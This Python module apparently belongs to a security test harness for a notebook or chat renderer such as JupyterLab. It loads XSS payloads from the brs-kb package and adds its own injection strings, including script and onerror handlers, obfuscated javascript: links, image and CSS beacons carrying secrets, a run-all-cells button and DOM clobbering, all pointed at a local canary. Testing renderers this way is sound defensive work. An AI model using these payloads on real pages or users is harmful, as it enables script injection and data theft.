"""Attack strings: data of the package ``brs-kb`` (PyPI, MIT, EasyProTech LLC / Brabus; it collects
PayloadsAllTheThings, PortSwigger's list and others), read from its installed files and never run,
and a few of our own that point at a canary.
"""

from __future__ import annotations

import ast
import importlib.util
import re
from functools import lru_cache
from pathlib import Path

CANARY = "127.0.0.1:9"  # replaced by the canary server's address


@lru_cache(maxsize=1)
def public_strings() -> tuple[str, ...]:
    """Every payload of the installed package, sorted; its modules are parsed, not imported."""
    spec = importlib.util.find_spec("brs_kb")
    assert spec is not None, "pip install brs-kb"
    assert spec.submodule_search_locations
    found: set[str] = set()
    for path in Path(spec.submodule_search_locations[0]).joinpath("payloads").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                found |= {
                    k.value.value
                    for k in node.keywords
                    if k.arg == "payload"
                    and isinstance(k.value, ast.Constant)
                    and isinstance(k.value.value, str)
                }
    return tuple(sorted(found))


OWN = (
    '<script>fetch("http://{c}/a")</script>',
    "<img src=http://{c}/b onerror=\"window.PWNED='b'\">",
    "![x](http://{c}/c.png?q=SECRET)",
    "![x][r]\n\n[r]: http://{c}/d.png",
    '<link rel=stylesheet href="http://{c}/e.css"><style>@import "http://{c}/f.css";</style>',
    '<p style="background: url(http://{c}/g)">x</p>',
    '<svg><image href="http://{c}/h"/><script>window.PWNED="h"</script></svg>',
    "<iframe src=http://{c}/i></iframe><iframe srcdoc='<script>parent.PWNED=1</script>'></iframe>",
    "</pre></code></td></tr></table></details></div></div></section><h1 id=escaped>out</h1>",
    "<video src=http://{c}/j poster=http://{c}/k><audio src=http://{c}/l>",
    '<meta http-equiv=refresh content="0;url=http://{c}/m"><base href="http://{c}/">',
    "[t](javascript:window.PWNED=1) [u](data:text/html,<script>alert(1)</script>)",
    "```html\n</code></pre><script>window.PWNED=2</script>\n```",
    "| a |\n|---|\n| </td></table><img src=http://{c}/n onerror=window.PWNED=3> |",
    "<object data=http://{c}/o></object><embed src=http://{c}/p><input autofocus onfocus=window.PWNED=4>",
    "$\\href{{javascript:window.PWNED=5}}{{x}}$ \\unicode{{<img src=http://{c}/q>}}",
    "\x1b]8;;http://{c}/r\x07link\x1b]8;;\x07\u202eoverride\u2066isolate",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.PWNED=6>",
    # addresses: schemes, mixed case, entities, tabs and line ends within, no scheme at all
    "[a](vbscript:window.PWNED=7) [b](file:///etc/passwd) [c](//{c}/s) [d](JaVaScRiPt&colon;window.PWNED=7)",
    "[a](java&#9;script:window.PWNED=7) [b](java\nscript:window.PWNED=7) [c](&#x6A;avascript:window.PWNED=7)",
    "[a](<javascript:window.PWNED=7>) [b](\x01javascript:window.PWNED=7) [c]( \tjavascript:window.PWNED=7 )",
    '[a](https://a.example" onclick="window.PWNED=7) [b](javascript:window.PWNED=7 "t")',
    "<javascript:window.PWNED=8> <data:text/html,<script>> <vbscript:x> <file:///x> <//{c}/t>",
    "[ref] [two][ref]\n\n[ref]: javascript:window.PWNED=8 't'\n\nx[^1]\n\n[^1]: <img src=http://{c}/u>",
    # what is no element: comments, CDATA, processing instructions, broken tags
    "<!-- --!> <img src=http://{c}/v onerror=window.PWNED=9> --> <![CDATA[<img src=http://{c}/w>]]>",
    "<?x <img src=http://{c}/x> ?> <!doctype <img src=http://{c}/y>> <img\nsrc=http://{c}/z\nonerror=window.PWNED=9",
    '<noscript><p title="</noscript><img src=http://{c}/aa onerror=window.PWNED=9>"></textarea></title></style>',
    "</script><script>window.PWNED=9</script></pre></details></summary></table></td><img src=http://{c}/ab>",
    "| a |\n|:-:|\n| `</code>` <img src=http://{c}/ac> \\| </td></tr></table> |",
    # maths and diagrams, which front ends draw from plain text
    "$\\raise{{40em}}{{\\rlap{{\\Huge OVER}}}}$ \\(\\style{{position:fixed;top:0}}{{\\cssId{{escaped}}{{x}}}}\\)",
    "\\[\\href{{javascript:window.PWNED=10}}{{x}}\\] $$\\require{{html}}\\class{{jp-Button}}{{y}}$$ \\begin{{equation}}z\\end{{equation}}",
    "it costs $5 and $6, \\$7 and \\\\server",
    "```mermaid\ngraph TD; A[<img src=http://{c}/ad onerror=window.PWNED=10>]-->B\nclick A 'javascript:window.PWNED=10'\n```",
    # what JupyterLab acts on, names that shadow a page's own, things that look like its own parts
    '<button data-commandlinker-command="notebook:run-all-cells" data-jp-suppress-context-menu>Trust</button>',
    '<div class="jp-Dialog" id=main style="position:fixed;inset:0"><a id=__proto__ name=body href=http://{c}/ae>OK</a></div>',
    "<form id=attributes action=http://{c}/af><input name=parentNode autofocus onfocus=window.PWNED=11><button>Go</button></form>",
    "<details open ontoggle=window.PWNED=11><summary>x</summary></details><dialog open>y</dialog><marquee onstart=window.PWNED=11>",
    "<svg><animate onbegin=window.PWNED=11 attributeName=x dur=1s></svg><template shadowrootmode=open><img src=http://{c}/ag></template>",
    "<link rel=preload as=image href=http://{c}/ah><link rel=prefetch href=http://{c}/ai><img srcset=http://{c}/aj>",
)


def attack_strings(canary: str = CANARY) -> list[str]:
    """Public ones and our own; addresses in all of them point at the canary."""
    own = [text.format(c=canary) for text in OWN]
    host = re.compile(
        r"(https?:)?//[\w.-]*(?:evil|attacker|example|malicious|hacker|xss)[\w.-]*", re.IGNORECASE
    )
    return own + [host.sub(f"http://{canary}", text) for text in public_strings()]


def chunks(canary: str, size: int = 12_000) -> list[str]:
    """All strings as replies of about ``size`` characters, one string a paragraph."""
    out, now = [], ""
    for text in attack_strings(canary):
        if len(now) + len(text) > size:
            out.append(now)
            now = ""
        now += text + "\n\n"
    return [*out, now]
